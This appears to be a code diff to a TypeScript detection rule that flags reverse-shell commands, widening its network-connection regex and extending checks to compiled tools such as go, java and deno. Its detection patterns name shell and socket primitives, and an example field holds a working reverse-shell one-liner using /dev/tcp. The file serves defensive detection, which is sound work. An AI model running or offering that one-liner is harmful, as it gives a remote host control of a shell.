@@ -2,10 +2,12 @@
 
 import { interpreterName, SHELLS } from '../../carriers/wrappers.ts'
 import { TAINT } from '../../model.ts'
+import { inputCode } from '../../writes/positions.ts'
 import { matching, only, type Rule, tools, verb } from '../rule.ts'
 
 /** Code that connects to the network. Together with RUNS_COMMANDS it gives control of a shell to another machine. */
-const CONNECTS = /socket|fsockopen|TCPSocket|\/inet\/tcp|Net::|net["')]*\)?\.(?:connect|createServer|Socket)/i
+const CONNECTS =
+  /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.Dial|TcpStream|TcpClient|IO::Socket|Net::|net["')]*\)?\.(?:connect|createServer|Socket)/i
 const RUNS_COMMANDS =
   /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute/
 
@@ -29,9 +31,12 @@ export const SHELL_RULES: readonly Rule[] = [
           c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
         )
       if (c.name === 'socket') return only(matching(c.args, /^-[a-z]*p/).length, matching(c.args, /sh\b/))
-      if (!isInterpreter(c.name)) return undefined
-      const read = { text: c.input.text ?? '', span: c.span, taint: c.input.taint }
-      return [...c.args, read].filter((code) => CONNECTS.test(code.text) && RUNS_COMMANDS.test(code.text))
+      const code = isInterpreter(c.name)
+        ? [...c.args, ...inputCode(c)]
+        : COMPILES.has(c.name) && c.args.length > 0 && c.scope.written?.size
+          ? inputCode(c)
+          : []
+      return code.filter((code) => CONNECTS.test(code.text) && RUNS_COMMANDS.test(code.text))
     },
     example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
   },
@@ -95,6 +100,9 @@ export const SHELL_RULES: readonly Rule[] = [
 /** Interpreters missing in the table of wrappers, because nobody pipes code into them. */
 const MORE =
   /^(?:[gmn]?awk|julia|jrunscript|jjs|groovy|scala|tclsh\d*|expect|luajit|R|octave|guile|elixir|erl|swipl|ghci)$/
+
+/** Tools that run the source of a file, which the line may have written before. */
+const COMPILES: ReadonlySet<string> = new Set(tools('go jshell java ghc deno bun'))
 
 function isInterpreter(name: string): boolean {
   return interpreterName(name) !== undefined || MORE.test(name)
